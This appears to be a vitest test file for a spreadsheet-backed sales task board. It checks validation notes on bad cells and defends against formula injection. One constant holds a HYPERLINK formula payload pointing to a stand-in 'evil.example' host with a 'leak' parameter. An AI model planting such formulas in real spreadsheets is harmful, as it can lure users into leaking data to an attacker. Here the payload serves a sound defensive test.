import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TABS } from '../../../shared/sheet/layout.ts';
import type { Language } from '../../../shared/domain/rep.ts';
import { expectUnbrokenAudit, startBoard, type Row, type RunningBoard } from './running-board.ts';

/** What a note on each bad cell has to say: what is wrong, and what would be accepted. */
const NOTES: Readonly<Record<Language, Readonly<Record<string, readonly string[]>>>> = {
  'zh-CN': {
    value: ['客户价值“特高”', '高、中、低'],
    difficulty: ['“超难”', '易、中、难'],
    stage: ['“快了”', '谈判'],
    amount: ['“-5”', '不能是负数'],
    owner: ['“Lissa”', '团队页里没有这个人', '是不是“Lisa”'],
    lastProgress: ['“2026-13-45”', '2026-11-23'],
    nextStep: ['太长：10000 个字符，最多 2000 个'],
  },
  en: {
    value: ['"特高"', 'High, Medium, Low'],
    difficulty: ['"超难"', 'Easy, Medium, Hard'],
    stage: ['"快了"', 'Negotiation'],
    amount: ['"-5"', 'must not be negative'],
    owner: ['"Lissa"', 'nobody on the Team tab', 'did you mean "Lisa"?'],
    lastProgress: ['"2026-13-45"', '2026-11-23'],
    nextStep: ['too long: 10000 characters, at most 2000'],
  },
};
const BAD = {
  value: '特高',
  difficulty: '超难',
  stage: '快了',
  amount: -5,
  owner: 'Lissa',
  lastProgress: '2026-13-45',
  nextStep: '长'.repeat(10_000),
};
const languages: readonly Language[] = ['zh-CN', 'en'];
const EVIL = '=HYPERLINK("https://evil.example/?leak","点我")';

describe.each(languages)('bad cells on a %s board', (language) => {
  let board: RunningBoard;
  /** A deal nobody has asked anything about, with every column filled. */
  let good: Row;
  let id: string;
  let auditBefore: number;

  /** Left empty on most rows: an answer, and what few deals have. */
  const rare = ['action', 'contact', 'source'];
  const people = TABS.tasks.columns
    .filter(({ owner, key }) => owner === 'people' && !rare.includes(key))
    .map(({ key }) => key);
  const state = () => board.ports.store.load(board.team, { tasks: [id as never], books: [] });
  const task = async () => (await state())?.tasks[id];

  beforeAll(async () => {
    board = await startBoard({ language });
    const look = await board.look();
    auditBefore = look.rows('audit').length;
    const found = look
      .rows('tasks')
      .find((row) => row['suggestedOwner'] === null && people.every((key) => row[key] !== null));
    good = found ?? {};
    id = String(good['id']);
  }, 60_000);
  afterAll(() => board.close());

  it('one note stands on each bad cell of a row, naming what is wrong and what would be accepted', async () => {
    const before = await task();
    await board.type('tasks', id, BAD);
    const notes = await board.notes('tasks', id);
    expect(Object.keys(notes).sort()).toEqual(Object.keys(BAD).sort());
    for (const [column, parts] of Object.entries(NOTES[language]))
      for (const part of parts) expect(notes[column], column).toContain(part);
    expect(await task()).toEqual(before);
  });

  it('what was typed stays as it was typed, and nothing is added to the audit', async () => {
    const look = await board.look();
    expect(look.byId('tasks', id)).toMatchObject({ ...BAD, owner: 'Lissa' });
    expect(look.rows('audit')).toHaveLength(auditBefore);
    expect(Object.keys((await board.ports.store.team(board.team))?.noted ?? {})).toEqual([id]);
  });

  it('mending one cell takes away its note alone, and the row stays out of force', async () => {
    await board.type('tasks', id, { value: good['value'] ?? null });
    const notes = await board.notes('tasks', id);
    expect(Object.keys(notes).sort()).toEqual(
      Object.keys(BAD)
        .filter((key) => key !== 'value')
        .sort(),
    );
  });

  it('a check of the board neither repeats nor loses the notes', async () => {
    const before = await board.notes('tasks', id);
    await board.running.post('onReconcile', { spreadsheetId: board.team });
    expect(await board.notes('tasks', id)).toEqual(before);
  });

  it('mending all cells clears our notes and no other, and the row counts again', async () => {
    const { running, team } = board;
    const place = (await board.look()).place('tasks', id);
    await api(running.origin, team, place, 2, '客户自己的备注');
    const { nextStep: _was, ...rest } = Object.fromEntries(
      Object.keys(BAD).map((key) => [key, good[key] ?? null]),
    );
    const after = await board.type('tasks', id, { ...rest, nextStep: '下周二演示' });
    expect(await board.notes('tasks', id)).toEqual({ customer: '客户自己的备注' });
    expect(after.byId('tasks', id)).toMatchObject({ ...rest, nextStep: '下周二演示' });
    expect((await task())?.fields.nextStep).toBe('下周二演示');
    expectUnbrokenAudit(after);
  });

  it('a formula that a person typed counts as the text it shows, and is written nowhere as a formula', async () => {
    const after = await board.type('tasks', id, { customer: EVIL });
    expect(after.byId('tasks', id)).toMatchObject({ customer: '点我' });
    expect((await task())?.fields.customer).toBe('点我');
    const moved = await board.type('tasks', id, { owner: 'Lisa' });
    expect(moved.rows('audit').at(-1)).toMatchObject({ customer: '点我' });
    expect(formulas(board).filter(({ sheetId }) => sheetId !== TABS.tasks.sheetId)).toEqual([]);
  });

  it('text that looks like a formula stays text wherever it is written', async () => {
    await board.writeUnseen('tasks', id, { customer: EVIL, title: '+1-2@3' });
    await board.type('tasks', id, { owner: language === 'en' ? 'Chen Chen' : '陈晨' });
    const look = await board.look();
    expect((await task())?.fields).toMatchObject({ customer: EVIL, title: '+1-2@3' });
    expect(
      look.rows('audit').filter(({ customer, title }) => customer === EVIL && title === '+1-2@3'),
    ).not.toHaveLength(0);
    expect(formulas(board)).toEqual([]);
  });

  it('a formula that fails is noted, and the cell in the future too', async () => {
    await board.type('tasks', id, { customer: '=1/0', lastProgress: '2099-01-01' });
    const notes = await board.notes('tasks', id);
    expect(Object.keys(notes).sort()).toEqual(['customer', 'lastProgress']);
    expect(notes['customer']).toMatch(language === 'en' ? /formula fails/ : /公式出错/);
    expect(notes['lastProgress']).toMatch(language === 'en' ? /future/ : /不能晚于今天/);
  });
});

/** A note put there by somebody else. */
const api = async (
  origin: string,
  team: string,
  row: number,
  column: number,
  note: string,
): Promise<void> => {
  const range = {
    sheetId: TABS.tasks.sheetId,
    startRowIndex: row,
    endRowIndex: row + 1,
    startColumnIndex: column,
    endColumnIndex: column + 1,
  };
  const requests = [{ updateCells: { range, rows: [{ values: [{ note }] }], fields: 'note' } }];
  const answer = await fetch(`${origin}/v4/spreadsheets/${team}:batchUpdate`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ requests }),
  });
  expect(answer.status).toBe(200);
};

/** Every cell of the book that would be evaluated. */
const formulas = ({ running }: RunningBoard): readonly { sheetId: number; formula: string }[] =>
  (running.sheets.getSpreadsheet(running.spreadsheetId, { includeGridData: true }).sheets ?? []).flatMap(
    (sheet) =>
      (sheet.data?.[0]?.rowData ?? []).flatMap((row) =>
        (row.values ?? []).flatMap((cell) => {
          const formula = cell.userEnteredValue?.formulaValue;
          return formula == null ? [] : [{ sheetId: sheet.properties?.sheetId ?? -1, formula }];
        }),
      ),
  );
